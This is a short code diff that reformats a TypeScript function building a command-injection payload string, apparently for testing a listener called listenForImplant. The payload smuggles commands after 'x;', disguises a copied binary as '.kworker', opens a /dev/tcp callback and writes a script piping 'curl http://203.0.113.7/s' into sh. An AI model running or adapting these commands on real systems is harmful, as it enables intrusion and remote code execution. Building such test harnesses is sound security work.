@@ -23,9 +23,11 @@ export async function listenForImplant(): Promise<{ port: number; connected: Pro
 export function payload(folder: string, port: number): string {
   const implant = `${folder}/.kworker`;
   return [
-    'x; cp /bin/sleep', implant,
+    'x; cp /bin/sleep',
+    implant,
     `&& (bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}; exec ${implant} 600' >/dev/null 2>&1 &)`,
-    '; sleep 0.5; rm -f', implant,
+    '; sleep 0.5; rm -f',
+    implant,
     `; printf '#!/bin/sh\\ncurl http://203.0.113.7/s | sh\\n' > ${folder}/stage2.sh; chmod +x ${folder}/stage2.sh`,
     `; cp /bin/true ${folder}/.cache-1`,
   ].join(' ');
